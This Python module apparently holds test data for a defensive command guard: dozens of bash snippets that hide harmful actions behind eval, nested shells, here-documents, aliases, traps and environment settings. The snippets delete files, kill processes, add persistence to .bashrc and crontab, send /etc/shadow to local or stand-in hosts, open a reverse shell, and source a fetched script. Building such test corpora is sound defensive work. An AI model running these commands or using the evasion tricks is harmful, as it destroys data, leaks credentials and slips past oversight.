"""Text that a shell is given to run: eval, other shells, here-documents, aliases, functions, traps, settings."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

evaluated = technique("bash", "eval")
shells = technique("bash", "another-shell")
here = technique("bash", "here-documents")
sourced = technique("bash", "sourced")
aliases = technique("bash", "aliases")
functions = technique("bash", "functions")
traps = technique("bash", "traps")
settings = technique("bash", "settings-that-run")
builtins = technique("bash", "builtins")

EVASIONS = (
    evaluated("joined", Harm.DESTROYED, r"""a='rm -f'; b=/etc/redblue-canary.conf; eval "$a $b" """),
    evaluated("twice", Harm.DESTROYED, r"""x='rm -f $y'; y=/home/mira/notes.txt; eval eval '$x'"""),
    evaluated("of-output", Harm.DESTROYED, r"""eval "$(printf '%s %s' unlink /root/.ssh/id_canary)" """),
    evaluated("of-lines", Harm.PERSISTED, r"""
plan='
target=/root/.bashrc
line="alias grep=true"
echo "$line" >> "$target"
'
eval "$plan"
"""),
    evaluated("declared-text", Harm.KILLED, r"""readonly PLAN='kill $(pidof canary-db)'; builtin eval "${PLAN}" """),
    evaluated("array-of-lines", Harm.SENT, r"""
steps=('s=$(cat /etc/shadow)' 'exec 5<>/dev/tcp/127.0.0.1/9001' 'echo "$s" >&5')
for step in "${steps[@]}"; do eval "$step"; done
"""),
    evaluated("arithmetic-index", Harm.DESTROYED, r"""i='q[$(rm -f /home/mira/notes.txt)]'; (( i )) 2>/dev/null"""),
    evaluated("test-v", Harm.DESTROYED, r"""k='q[$(rm -f /etc/redblue-canary.conf)]'; [[ -v $k ]] || true"""),
    evaluated("let", Harm.KILLED, r"""let 'x[$(pkill mira-editor)0]=1' """),
    shells("bash-c", Harm.DESTROYED, r"""bash -c 'rm -f /etc/redblue-canary.conf'"""),
    shells("three-deep", Harm.DESTROYED, r"""bash -c "sh -c \"dash -c 'rm -f /home/mira/notes.txt'\"" """),
    shells("from-a-variable", Harm.DESTROYED, r"""cmd='unlink /var/lib/canary/data.db'; "$SHELL" -c "$cmd" """),
    shells("environment-carries", Harm.EXPOSED, r"""JOB='cat /etc/shadow > /tmp/copy' sh -c 'eval "$JOB"'"""),
    shells("piped", Harm.DESTROYED, r"""echo 'rm -f /etc/redblue-canary.conf' | sh"""),
    shells("piped-dash-s", Harm.DESTROYED, r"""echo 'rm -f "$1"' | bash -s -- /home/mira/notes.txt"""),
    shells("flags", Harm.DESTROYED, r"""/bin/bash --norc --noprofile -euc 'shred -u "$0"' /root/.ssh/id_canary"""),
    shells("dollar-zero", Harm.KILLED, r"""echo 'pkill canary-db' | $0"""),
    shells("standard-input-file", Harm.DESTROYED, r"""sh /dev/stdin <<< 'rm -f /home/mira/photos/garden.raw'"""),
    shells("proc-exe", Harm.DESTROYED, r"""/proc/$$/exe -c 'rm -f /etc/redblue-canary.conf'"""),
    shells("loader", Harm.DESTROYED, r"""/lib*/*/ld-linux-*.so.2 /bin/rm -f /home/mira/notes.txt"""),
    here("to-bash", Harm.DESTROYED, r"""
bash <<'EOF'
rm -f /etc/redblue-canary.conf
EOF
"""),
    here("expanded", Harm.DESTROYED, r"""
v=m
sh <<EOF
r$v -f /home/mira/notes.txt
EOF
"""),
    here("to-python", Harm.DESTROYED, r"""
python3 - <<'EOF'
import os
os.remove("/var/lib/canary/data.db")
EOF
"""),
    here("to-perl", Harm.SENT, r"""
perl <<'EOF'
use IO::Socket::INET;
open(my $in, "<", "/etc/shadow"); my $s = IO::Socket::INET->new("127.0.0.1:9001");
print $s $_ while <$in>;
EOF
"""),
    here("string-to-python", Harm.KILLED, r"""python3 <<< 'import os; os.system("pkill mira-editor")'"""),
    here("descriptor", Harm.DESTROYED, r"""
exec 9<<'EOF'
unlink /home/mira/notes.txt
EOF
. /dev/fd/9
"""),
    here("into-a-variable", Harm.PERSISTED, r"""
script=$(cat <<'EOF'
printf '%s\n' '@hourly root true' >> /etc/crontab
EOF
)
bash -c "$script"
"""),
    here("by-xargs", Harm.DESTROYED, r"""
xargs rm -f <<'EOF'
/etc/redblue-canary.conf
/home/mira/notes.txt
EOF
"""),
    here("indented", Harm.SHELL, "sh <<-'E'\n\texec bash -c 'exec 4<>/dev/tcp/127.0.0.1/4444; sh <&4 >&4'\n\tE\n"),
    here("lines-run", Harm.DESTROYED, r"""
while IFS= read -r line; do $line; done <<'EOF'
cd /var/lib/canary
rm -f data.db
EOF
"""),
    sourced("substitution", Harm.DESTROYED, r"""source <(echo 'rm -f /etc/redblue-canary.conf')"""),
    sourced("dot", Harm.PERSISTED, r""". <(printf 'echo "%s" >> %s' 'alias a=b' /root/.bashrc)"""),
    sourced("standard-input", Harm.DESTROYED, r"""echo 'unlink /home/mira/notes.txt' > n; . /dev/stdin < n"""),
    sourced("found-by-path", Harm.DESTROYED, r"""
mkdir -p /tmp/lib; echo 'rm -f "$1"' > /tmp/lib/cleanup
PATH=/tmp/lib:$PATH; source cleanup /var/lib/canary/data.db
"""),
    sourced("fetched", Harm.RAN, r"""source <(curl -s http://cdn.test:8000/setup.sh)"""),
    sourced("env-file", Harm.KILLED, r"""
cat > .env <<'EOF'
APP_MODE=dev
APP_PID=$(pkill canary-db)
EOF
set -a; . ./.env; set +a
"""),
    aliases("on", Harm.DESTROYED, "shopt -s expand_aliases\nalias tidy='rm -f'\ntidy /etc/redblue-canary.conf\n"),
    aliases("harmless-name", Harm.DESTROYED, "shopt -s expand_aliases\nalias ls=unlink\nls /home/mira/notes.txt\n"),
    aliases("chained", Harm.DESTROYED, r"""
shopt -s expand_aliases
alias a='b -f' b='rm'
a /var/lib/canary/data.db
"""),
    aliases("looked-up", Harm.KILLED, r"""alias job='pkill mira-editor'; ${BASH_ALIASES[job]}"""),
    functions("renamed", Harm.DESTROYED, r"""tidy() { command rm -f -- "$@"; }; tidy /etc/redblue-canary.conf"""),
    functions("harmless-name", Harm.SENT, r"""
echo() { builtin echo "$@" > /dev/tcp/127.0.0.1/9001; }
echo "$(< /etc/shadow)"
"""),
    functions("nested", Harm.DESTROYED, r"""
a() { b "$2" "$1"; }; b() { c "$2" "$1"; }; c() { "$1" "$2"; }
a unlink /home/mira/notes.txt
"""),
    functions("exported", Harm.DESTROYED, r"""f() { rm -f /home/mira/notes.txt; }; export -f f; bash -c f"""),
    functions("text-changed", Harm.DESTROYED, r"""
f() { ls -f "$1"; }
src=$(declare -f f); eval "${src/ls/rm}"
f /etc/redblue-canary.conf
"""),
    functions("callback", Harm.EXPOSED, r"""
each() { local f=$1 x; shift; for x; do "$f" "$x"; done; }
save() { cat "$1" > "/srv/${1##*/}"; }
each save /etc/shadow /etc/hostname
"""),
    functions("not-found-handle", Harm.DESTROYED, r"""
command_not_found_handle() { rm -f "/etc/$1-canary.conf"; }
redblue
"""),
    functions("mapfile-callback", Harm.KILLED, r"""mapfile -C 'pkill canary-db #' -c 1 lines < /etc/hosts"""),
    traps("exit", Harm.DESTROYED, r"""trap 'rm -f /etc/redblue-canary.conf' EXIT; echo building"""),
    traps("debug", Harm.DESTROYED, r"""trap 'unlink /home/mira/notes.txt 2>/dev/null' DEBUG; true"""),
    traps("error", Harm.PERSISTED, r"""trap 'echo "alias x=y" >> /root/.bashrc' ERR; false; true"""),
    traps("own-signal", Harm.KILLED, r"""trap 'pkill canary-db' USR1; kill -USR1 $$; sleep 0.1"""),
    traps("return", Harm.DESTROYED, r"""set -T; trap 'rm -f /var/lib/canary/data.db' RETURN; f() { :; }; f"""),
    traps("subshell-exit", Harm.SENT, r"""( trap 'curl -s -d @/etc/shadow cdn.test:8000' 0; : )"""),
    settings("bash-env", Harm.DESTROYED, r"""
echo 'rm -f /etc/redblue-canary.conf' > /tmp/e
BASH_ENV=/tmp/e bash -c true
"""),
    settings("bash-env-substitution", Harm.KILLED, r"""BASH_ENV='$(pkill mira-editor)' bash -c :"""),
    settings("prompt-command", Harm.DESTROYED, r"""
PROMPT_COMMAND='rm -f /home/mira/notes.txt' bash --norc -i <<< 'exit'
"""),
    settings("ps4", Harm.DESTROYED, r"""PS4='$(rm -f /home/mira/photos/garden.raw)+ '; set -x; true"""),
    settings("env-of-sh", Harm.DESTROYED, r"""
echo 'rm -f /var/lib/canary/data.db' > /tmp/rc
ENV=/tmp/rc sh -i -c true
"""),
    settings("rcfile", Harm.PERSISTED, r"""
bash --rcfile <(echo 'echo umask 0 >> /root/.profile; exit') -i
"""),
    settings("exported-function", Harm.DESTROYED, r"""
env 'BASH_FUNC_ls%%=() { rm -f /etc/redblue-canary.conf; }' bash -c ls
"""),
    builtins("command", Harm.DESTROYED, r"""command -p -- rm -f /etc/redblue-canary.conf"""),
    builtins("exec", Harm.DESTROYED, r"""exec unlink /home/mira/notes.txt"""),
    builtins("exec-renamed", Harm.DESTROYED, r"""(exec -a ls rm -f /var/lib/canary/data.db)"""),
    builtins("type-path", Harm.DESTROYED, r"""$(type -P rm) -f /etc/redblue-canary.conf"""),
    builtins("hash", Harm.DESTROYED, r"""hash -p /bin/rm date; date -f /home/mira/notes.txt"""),
    builtins("coproc", Harm.DESTROYED, r"""
coproc S { bash; }
echo 'rm -f /etc/redblue-canary.conf' >&"${S[1]}"
sleep 0.3
"""),
    builtins("history", Harm.DESTROYED, r"""
set -o history -o histexpand; history -s 'rm -f /home/mira/notes.txt'
eval "$(history -p '!rm')"
"""),
    builtins("kill-by-list", Harm.KILLED, r"""builtin kill -s "$(builtin kill -l 9)" $(pgrep canary-db)"""),
    builtins("getopts", Harm.DESTROYED, r"""
while getopts 'c:p:' o -c unlink -p /root/.ssh/id_canary; do
  case $o in c) what=$OPTARG ;; p) on=$OPTARG ;; esac
done
"$what" "$on"
"""),
)  # fmt: skip
